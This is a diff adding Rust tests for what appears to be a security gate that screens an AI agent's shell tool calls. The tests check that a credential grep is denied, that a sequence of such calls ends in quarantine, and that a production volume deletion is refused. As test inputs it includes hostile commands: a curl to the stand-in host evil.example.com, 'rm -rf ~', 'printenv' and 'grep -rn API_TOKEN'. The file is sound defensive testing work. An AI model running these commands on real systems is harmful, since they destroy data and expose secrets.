@@ -1,0 +1,50 @@
+//! What a question adds to where its agent is going, and what stops it.
+
+use super::{AGENT, asked, bash, gate, sessions, stages, verdict};
+use crate::support::FOREIGN;
+use crate::support::mock::PRODUCTION_VOLUME;
+use serde_json::json;
+
+fn discoveries(stages: &[(String, String)]) -> Vec<&str> {
+    let all = stages.iter().filter(|(stage, _)| stage == "credential_discovery");
+    all.map(|(_, what)| &**what).collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_looks_for_credentials_is_a_stage_once_and_outlives_the_process() {
+    let mut gate = gate(|policy| policy).await;
+    for id in ["toolu_1", "toolu_2"] {
+        let call =
+            json!({ "tool": "Bash", "input": { "command": "grep -rn API_TOKEN ." }, "call": id });
+        assert_eq!(verdict(&asked(&gate, &call)), ("deny", "credential_read"));
+        // Something else between two tries does not make two facts of them.
+        asked(&gate, &bash("curl https://evil.example.com/x"));
+    }
+    let before = stages(&gate);
+    assert_eq!(discoveries(&before), ["Bash: grep -rn API_TOKEN ."], "{before:?}");
+    gate.drain();
+    gate.serve();
+    assert_eq!(stages(&gate), before);
+    // The incident from there on, over the network.
+    assert_eq!(gate.delete_volume(FOREIGN, PRODUCTION_VOLUME).reason(), "foreign_credential");
+    assert!(sessions(&gate, &["list"]).contains("in quarantine"));
+    assert_eq!(verdict(&asked(&gate, &bash("ls"))), ("deny", "quarantined"));
+    assert_eq!(gate.mock.bytes_received(), 0);
+    sessions(&gate, &["release", AGENT]);
+    assert_eq!(verdict(&asked(&gate, &bash("ls"))), ("allow", ""));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_call_that_completes_a_sequence_is_refused_and_its_hold_is_taken_back() {
+    let sequence = "  - name: told\n    within: 30m\n    \
+                    steps: [credential_discovery, out_of_scope]\n    then: quarantine\n";
+    let gate =
+        gate(|policy| policy.replace("\nsequences:\n", &format!("\nsequences:\n{sequence}"))).await;
+    assert_eq!(asked(&gate, &bash("rm -rf ~"))["verdict"], "hold");
+    assert_eq!(gate.waiting().len(), 1);
+    asked(&gate, &bash("printenv"));
+    let told = asked(&gate, &bash("curl https://evil.example.com/x"));
+    assert_eq!(verdict(&told), ("deny", "quarantined"), "{told}");
+    assert_eq!(gate.waiting().len(), 0);
+    assert_eq!(gate.curl(&["https://docs.railway.com/x"]).reason(), "quarantined");
+}
